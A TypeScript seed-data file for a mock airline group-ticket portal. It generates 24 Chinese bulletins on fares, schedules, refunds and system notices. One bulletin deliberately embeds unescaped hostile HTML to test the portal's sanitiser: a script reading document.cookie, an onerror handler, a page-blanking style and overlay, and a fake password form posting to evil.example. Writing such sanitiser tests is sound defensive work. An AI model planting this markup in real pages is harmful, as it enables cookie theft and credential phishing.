import type { BulletinCategory } from '@/domain/bulletin';
import type { BulletinDetail } from '@/lib/gateway/endpoints';
import type { Rng } from '../random';
import { gatewayDayAt, toGatewayDate, toGatewayIso } from '../time-format';

/** The 24 bulletins (news): policy, notices, promotions, system; one carries unsafe markup. */

interface BulletinDraft {
  title: string;
  category: BulletinCategory;
  daysAgo: number;
  top?: boolean;
  publisher: string;
  intro: string;
  tableTitle: string;
  /** First row is the header. */
  table: string[][];
  listTitle: string;
  items: string[];
  /** Raw markup appended unescaped: only the one bulletin that exercises the portal's sanitiser. */
  unsafeMarkup?: string;
}

const SALES = '祥云航空团队销售中心';
const ECOMMERCE = '祥云航空电子商务部';
const IT = '祥云航空信息技术部';
const OPERATIONS = '祥云航空运行控制中心';

/** The bulletin whose content carries script and an onerror handler, to exercise the sanitiser. */
export const UNSAFE_BULLETIN_PROD_NO = 'BL0010';

const BULLETIN_DRAFTS: BulletinDraft[] = [
  {
    title: '关于2026年春运期间团队票政策调整的通知',
    category: 'POLICY',
    daysAgo: 3,
    top: true,
    publisher: SALES,
    intro:
      '为保障春运期间旅客出行，合理调配运力，我司对春运期间（节前15天至节后25天）国内航线团队票销售政策进行调整，现将有关事项通知如下。',
    tableTitle: '春运期间团队票政策',
    table: [
      ['项目', '春运期间', '平日'],
      ['团队人数', '10—200人', '10—200人'],
      ['定金比例', '团队总价的10%', '团队总价的10%'],
      ['定金支付时限', '订座后24小时内', '订座后24小时内'],
      ['尾款支付时限', '航班起飞前7天', '航班起飞前7天'],
    ],
    listTitle: '注意事项',
    items: [
      '春运期间热门航线团队座位有限，请尽早提交申请。',
      '逾期未支付定金的订单将自动取消并释放座位。',
      '起飞前7天内预订的团队须在2小时内全额支付。',
    ],
  },
  {
    title: '2026年春运加班机计划公告',
    category: 'NOTICE',
    daysAgo: 6,
    top: true,
    publisher: OPERATIONS,
    intro: '为满足春运期间旅客出行需求，我司将在主要干线增开加班航班，现将加班机计划公布如下，欢迎各合作旅行社组织团队出行。',
    tableTitle: '加班航班计划',
    table: [
      ['航班号', '航线', '起飞时间', '执行日期'],
      ['XY5181', '上海浦东—成都天府', '07:25', '节前第15天至节前第1天'],
      ['XY5182', '成都天府—上海浦东', '11:40', '节后第1天至节后第20天'],
      ['XY5283', '北京大兴—广州白云', '21:30', '节前第10天至节后第15天'],
      ['XY5391', '深圳宝安—哈尔滨太平', '08:10', '节前第7天至节后第7天'],
    ],
    listTitle: '预订说明',
    items: ['加班航班已开放团队预订，可在“临时团”中查询。', '加班航班如因运行原因调整，将通过航班变动提醒通知。'],
  },
  {
    title: '系列团申请须知（2026年夏秋航季）',
    category: 'POLICY',
    daysAgo: 10,
    publisher: SALES,
    intro: '2026年夏秋航季系列团申请现已开放。为提高审核效率，请各旅行社在申请前仔细阅读以下须知。',
    tableTitle: '系列团类型',
    table: [
      ['类型', '说明', '示例'],
      ['定期系列团', '在日期范围内按固定星期执行', '每周一、三、五出发'],
      ['不定期系列团', '自选若干出发日期', '7月3日、7月18日、8月2日'],
    ],
    listTitle: '申请要求',
    items: [
      '每个出发日期的团队人数为10—200人。',
      '一个系列团订单涵盖全部出发日期，每个日期单独占座。',
      '全部旅客名单须在航班起飞前72小时录入完毕。',
    ],
  },
  {
    title: '团队客票退改规则更新说明',
    category: 'POLICY',
    daysAgo: 14,
    publisher: SALES,
    intro: '自本通知发布之日起，新预订的团队客票适用以下自愿退票规则，非自愿退票不收取手续费。',
    tableTitle: '自愿退票手续费',
    table: [
      ['申请时间（距起飞）', '手续费比例'],
      ['30天以上', '10%'],
      ['7天至30天', '30%'],
      ['7天以内', '50%'],
      ['航班起飞后', '不予退票'],
    ],
    listTitle: '办理说明',
    items: ['退款原路退回至原支付方式。', '预存款支付的订单，退款将计入交易明细。', '重复支付的订单将全额退还重复部分。'],
  },
  {
    title: 'B2B平台系统升级维护公告',
    category: 'SYSTEM',
    daysAgo: 1,
    publisher: IT,
    intro: '为提升平台服务质量，我司将于本周六凌晨对团队票务B2B平台进行系统升级，届时部分功能将暂停使用。',
    tableTitle: '维护安排',
    table: [
      ['时间', '影响范围'],
      ['周六 00:00—02:00', '团队预订、订单支付'],
      ['周六 02:00—04:00', '行程单开具、报表下载'],
    ],
    listTitle: '温馨提示',
    items: ['请提前完成待支付订单的支付。', '维护期间已出票订单不受影响。', '如遇问题请联系客服热线95000。'],
  },
  {
    title: '上海浦东—成都天府航线团队特惠开售',
    category: 'PROMOTION',
    daysAgo: 8,
    publisher: SALES,
    intro: '上海浦东至成都天府航线团队特惠产品现已开售，适用于10人及以上旅游团队，数量有限，售完即止。',
    tableTitle: '特惠价格',
    table: [
      ['航班号', '起飞时间', '团队特惠价（元/人）'],
      ['XY5101', '08:35', '680'],
      ['XY5103', '13:20', '720'],
      ['XY5105', '19:45', '650'],
    ],
    listTitle: '使用条件',
    items: ['价格不含机场建设费和燃油附加费。', '特惠产品不得更改航班日期。', '可在“特惠团”中选择日期和航班后预订。'],
  },
  {
    title: '关于团队名单录入时限的提醒',
    category: 'NOTICE',
    daysAgo: 18,
    publisher: SALES,
    intro: '近期部分团队订单临近起飞仍未录入完整名单，影响出票。现就名单录入时限再次提醒如下。',
    tableTitle: '名单录入要求',
    table: [
      ['项目', '要求'],
      ['录入时限', '航班起飞前72小时'],
      ['必填信息', '姓名、旅客类型、证件类型及号码'],
      ['联系电话', '每个订单至少一位旅客'],
    ],
    listTitle: '录入方式',
    items: ['逐个录入或编辑旅客信息。', '下载乘机人名单模板，填写后批量导入。', '婴儿不占座，不计入团队人数。'],
  },
  {
    title: '团队竞价活动规则说明',
    category: 'POLICY',
    daysAgo: 21,
    publisher: SALES,
    intro: '团队竞价活动面向全部合作旅行社开放，现将竞价规则说明如下，请在参与前仔细阅读。',
    tableTitle: '竞价规则',
    table: [
      ['项目', '规则'],
      ['出价', '单价不低于底价，加价不低于最小加价幅度'],
      ['定金', '每座底价的20%'],
      ['排名', '按单价从高到低，同价按定金支付时间先后'],
      ['尾款', '中标后24小时内支付'],
    ],
    listTitle: '注意事项',
    items: ['活动进行中可提高出价。', '未中标订单的定金将自动退还。', '中标后放弃的，定金不予退还。'],
  },
  {
    title: '预存款账户充值审核时效调整',
    category: 'NOTICE',
    daysAgo: 25,
    publisher: ECOMMERCE,
    intro: '为加快资金到账，预存款账户充值申请的审核时效自下月起调整如下。',
    tableTitle: '审核时效',
    table: [
      ['提交时间', '审核完成时间'],
      ['工作日 9:00—16:00', '当日'],
      ['工作日 16:00 以后', '次一工作日12:00前'],
      ['节假日', '节后第一个工作日'],
    ],
    listTitle: '提交材料',
    items: ['银行转账凭证图片（清晰完整）。', '转账金额与申请金额须一致。'],
  },
  {
    title: '关于防范钓鱼网站及保护旅客信息安全的提示',
    category: 'SYSTEM',
    daysAgo: 28,
    publisher: IT,
    intro: '近期发现有不法分子仿冒航空公司网站和客服骗取旅客信息，请各合作旅行社提高警惕，保护旅客信息安全。',
    tableTitle: '官方渠道',
    table: [
      ['渠道', '说明'],
      ['B2B平台', '仅通过官方域名访问'],
      ['客服热线', '95000'],
    ],
    listTitle: '防范建议',
    items: ['不要点击短信中的陌生链接。', '定期修改登录密码，不与他人共用账号。', '子账号离职后请及时停用。'],
    // Markup that got through an earlier sanitiser: script, a handler, a style that blanks the portal, a fixed
    // overlay, a password form posting elsewhere, a remote (tracking) image.
    unsafeMarkup: [
      '<p>扫码核验官方网站：<img src=x onerror="alert(1)"></p><script>alert(document.cookie)</script>',
      '<p>以下内容应被平台过滤：</p><style>body{display:none}</style>',
      '<div style="position:fixed;inset:0;z-index:99999;background:#fff">系统维护中，请在下方重新登录</div>',
      '<form action="https://evil.example/steal" method="post"><p>会话已过期，请重新输入密码：</p><input type="password" name="password"><button>确认</button></form>',
      '<p><img src="https://evil.example/track.png" alt="广告"></p>',
    ].join(''),
  },
  {
    title: '暑期亲子游团队包机产品推介',
    category: 'PROMOTION',
    daysAgo: 31,
    publisher: SALES,
    intro: '暑期亲子游旺季将至，我司推出多条热门旅游航线包机产品，欢迎各旅行社咨询预订。',
    tableTitle: '推荐航线',
    table: [
      ['航线', '机型', '座位数'],
      ['上海浦东—昆明长水', 'A320', '180'],
      ['南京禄口—厦门高崎', 'B737-800', '176'],
      ['杭州萧山—西安咸阳', 'A321', '220'],
    ],
    listTitle: '包机流程',
    items: ['在“包机”中提交机型、航线和日期。', '确认报价后生成订单。', '按订单支付时限完成付款。'],
  },
  {
    title: '电子行程单开具功能上线公告',
    category: 'SYSTEM',
    daysAgo: 35,
    publisher: ECOMMERCE,
    intro: '平台电子行程单开具功能正式上线，已出票客票可在线开具电子行程单。',
    tableTitle: '购买方信息要求',
    table: [
      ['购买方类型', '必填信息'],
      ['企业', '名称、统一社会信用代码'],
      ['机关事业单位', '名称、统一社会信用代码'],
      ['个人', '姓名'],
      ['其他', '名称'],
    ],
    listTitle: '功能说明',
    items: ['支持打印、打印预览和重新推送。', '已开具的行程单可申请冲红，冲红后可重新开具。'],
  },
  {
    title: '国内航线燃油附加费调整通知',
    category: 'NOTICE',
    daysAgo: 38,
    publisher: SALES,
    intro: '根据国家有关部门规定，自下月5日（含）起调整国内航线旅客燃油附加费收取标准。',
    tableTitle: '收取标准',
    table: [
      ['航段距离', '成人（元）', '儿童、婴儿'],
      ['800公里（含）以下', '20', '免收'],
      ['800公里以上', '40', '免收'],
    ],
    listTitle: '适用范围',
    items: ['以出票日期为准。', '已出票客票不补收、不退还差额。'],
  },
  {
    title: '广州—昆明航线航班时刻调整公告',
    category: 'NOTICE',
    daysAgo: 42,
    publisher: OPERATIONS,
    intro: '因航班计划调整，广州白云至昆明长水航线部分航班时刻自下周起调整如下。',
    tableTitle: '调整后时刻',
    table: [
      ['航班号', '原时刻', '新时刻'],
      ['XY5301', '08:00—10:25', '08:40—11:05'],
      ['XY5302', '11:30—13:45', '12:10—14:25'],
    ],
    listTitle: '受影响订单处理',
    items: ['受影响订单将在航班变动提醒中通知。', '因时刻调整申请退票的，按非自愿退票办理。'],
  },
  {
    title: '代理人月度奖励结算说明',
    category: 'POLICY',
    daysAgo: 45,
    publisher: ECOMMERCE,
    intro: '为回馈合作伙伴，我司按已出票航段向代理人发放奖励，现将结算规则说明如下。',
    tableTitle: '结算安排',
    table: [
      ['项目', '说明'],
      ['计算依据', '当月已出票航段'],
      ['结算周期', '按月结算'],
      ['发放方式', '计入预存款账户'],
    ],
    listTitle: '查询方式',
    items: ['在“奖励明细”中查看每月奖励。', '如有疑问请在结算后15日内提出。'],
  },
  {
    title: '红包积分使用规则更新',
    category: 'PROMOTION',
    daysAgo: 49,
    publisher: ECOMMERCE,
    intro: '红包积分规则更新后，积分可在支付时直接抵扣票款，具体规则如下。',
    tableTitle: '积分规则',
    table: [
      ['项目', '规则'],
      ['获取', '已出票订单按金额累积'],
      ['抵扣', '100积分抵扣1元'],
      ['有效期', '自获得之日起12个月'],
    ],
    listTitle: '说明',
    items: ['积分不可转让、不可兑现。', '退票时已抵扣的积分按原路退回。'],
  },
  {
    title: '子账号与角色权限管理使用指引',
    category: 'SYSTEM',
    daysAgo: 53,
    publisher: IT,
    intro: '为便于旅行社内部分工协作，平台支持主账号创建子账号并分配角色权限。',
    tableTitle: '功能说明',
    table: [
      ['功能', '说明'],
      ['子账号', '每家旅行社最多20个，用户名唯一'],
      ['角色', '从主账号拥有的功能中选择'],
      ['停用', '停用后子账号无法登录'],
    ],
    listTitle: '操作步骤',
    items: ['在“角色管理”中新建角色并勾选功能。', '在“子账号管理”中新建子账号并指定角色。', '子账号使用“子账号登录”方式登录。'],
  },
  {
    title: '关于非自愿退票办理流程的说明',
    category: 'POLICY',
    daysAgo: 57,
    publisher: SALES,
    intro: '因航班取消、延误或时刻调整等航空公司原因造成旅客无法出行的，可申请非自愿退票，免收手续费。',
    tableTitle: '办理材料',
    table: [
      ['情形', '所需材料'],
      ['航班取消', '航变通知截图'],
      ['航班延误', '延误证明'],
      ['时刻调整', '航变通知截图'],
    ],
    listTitle: '办理流程',
    items: ['在订单中心选择“非自愿退票”。', '上传证明材料并提交。', '审核通过后原路退款。'],
  },
  {
    title: '北京大兴—西安航线新开通公告',
    category: 'NOTICE',
    daysAgo: 61,
    publisher: OPERATIONS,
    intro: '我司将于下月起新开北京大兴至西安咸阳航线，每日一班往返，欢迎组织团队出行。',
    tableTitle: '航班计划',
    table: [
      ['航班号', '航线', '起飞', '到达'],
      ['XY5401', '北京大兴—西安咸阳', '09:15', '11:35'],
      ['XY5402', '西安咸阳—北京大兴', '12:40', '14:50'],
    ],
    listTitle: '开航优惠',
    items: ['开航首月团队预订享受特惠价格。', '具体价格以预订时查询结果为准。'],
  },
  {
    title: '团队订单定金支付规则说明',
    category: 'POLICY',
    daysAgo: 66,
    publisher: SALES,
    intro: '团队订单采用定金加尾款的两阶段支付方式，现将规则说明如下。',
    tableTitle: '支付阶段',
    table: [
      ['阶段', '金额', '时限'],
      ['定金', '团队总价的10%', '订座后24小时内'],
      ['尾款', '剩余票款', '航班起飞前7天'],
    ],
    listTitle: '逾期处理',
    items: ['逾期未付定金，订单自动取消并释放座位。', '逾期未付尾款，订单取消且定金不予退还。', '起飞前7天内预订的须在2小时内全额支付。'],
  },
  {
    title: '清明小长假团队运力投放公告',
    category: 'PROMOTION',
    daysAgo: 70,
    publisher: SALES,
    intro: '清明小长假期间，我司在华东、西南主要旅游航线加大团队运力投放。',
    tableTitle: '投放航线',
    table: [
      ['航线', '每日团队座位'],
      ['上海虹桥—重庆江北', '120'],
      ['杭州萧山—成都天府', '90'],
      ['南京禄口—武汉天河', '60'],
    ],
    listTitle: '预订提示',
    items: ['团队座位先到先得。', '请在出发前72小时录入完整名单。'],
  },
  {
    title: '平台支付渠道维护通知',
    category: 'SYSTEM',
    daysAgo: 74,
    publisher: ECOMMERCE,
    intro: '因合作银行系统维护，平台部分支付渠道将暂停服务，请合理安排支付时间。',
    tableTitle: '维护安排',
    table: [
      ['支付方式', '暂停时间'],
      ['B2B银行支付', '周日 01:00—05:00'],
      ['在线支付', '周日 02:00—03:00'],
      ['预存款支付', '不受影响'],
    ],
    listTitle: '温馨提示',
    items: ['维护期间可使用预存款支付。', '支付未完成的订单请在维护结束后重新支付。'],
  },
  {
    title: '关于规范团队旅客证件信息录入的通知',
    category: 'NOTICE',
    daysAgo: 80,
    publisher: SALES,
    intro: '为确保旅客顺利值机，请各旅行社准确录入旅客证件信息，证件信息错误可能导致无法乘机。',
    tableTitle: '证件要求',
    table: [
      ['证件类型', '要求'],
      ['居民身份证', '15位或18位，末位可为X'],
      ['护照', '与护照信息页一致'],
      ['港澳台居民居住证', '18位'],
    ],
    listTitle: '常见错误',
    items: ['姓名中包含空格或错别字。', '身份证号码校验位错误。', '儿童、婴儿旅客类型选择错误。'],
  },
  {
    title: '秋冬航季特惠团产品预告',
    category: 'PROMOTION',
    daysAgo: 87,
    publisher: SALES,
    intro: '秋冬航季促销团产品即将发布，涵盖多条热门旅游航线，敬请关注。',
    tableTitle: '首批产品',
    table: [
      ['航线', '销售期', '团队特惠价（元/人起）'],
      ['上海浦东—厦门高崎', '发布后30天', '460'],
      ['深圳宝安—昆明长水', '发布后30天', '520'],
      ['成都天府—杭州萧山', '发布后30天', '580'],
    ],
    listTitle: '参与方式',
    items: ['在“促销团”中选择日期和航班。', '每个产品座位有限，售完即止。'],
  },
];

const escapeHtml = (text: string) => text.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;');

const chineseDate = (ms: number) => {
  const [year, month, day] = toGatewayDate(ms).split('-').map(Number);
  return `${year}年${month}月${day}日`;
};

function bulletinHtml(draft: BulletinDraft, publishMs: number): string {
  const [head = [], ...rows] = draft.table;
  const cells = (row: string[], tag: 'th' | 'td') => row.map((cell) => `<${tag}>${escapeHtml(cell)}</${tag}>`).join('');
  return [
    `<h2>${escapeHtml(draft.title)}</h2>`,
    '<p>各合作旅行社、代理人：</p>',
    `<p>${escapeHtml(draft.intro)}</p>`,
    `<h3>一、${escapeHtml(draft.tableTitle)}</h3>`,
    `<table><thead><tr>${cells(head, 'th')}</tr></thead><tbody>${rows.map((row) => `<tr>${cells(row, 'td')}</tr>`).join('')}</tbody></table>`,
    `<h3>二、${escapeHtml(draft.listTitle)}</h3>`,
    `<ol>${draft.items.map((item) => `<li>${escapeHtml(item)}</li>`).join('')}</ol>`,
    draft.unsafeMarkup ?? '',
    '<p>特此通知。</p>',
    `<p style="text-align:right">${escapeHtml(draft.publisher)}<br>${chineseDate(publishMs)}</p>`,
  ].join('\n');
}

const summaryOf = (intro: string) => (intro.length > 60 ? `${intro.slice(0, 60)}…` : intro);

export function seedBulletins(now: number, rng: Rng): BulletinDetail[] {
  return BULLETIN_DRAFTS.map((draft, index) => {
    const publishMs = gatewayDayAt(now, -draft.daysAgo, `${rng.int(8, 17)}:${String(rng.int(0, 59)).padStart(2, '0')}`);
    return {
      prodNo: `BL${String(index + 1).padStart(4, '0')}`,
      title: draft.title,
      category: draft.category,
      publishTime: toGatewayIso(publishMs),
      top: draft.top ?? false,
      summary: summaryOf(draft.intro),
      content: bulletinHtml(draft, publishMs),
      publisher: draft.publisher,
    };
  });
}
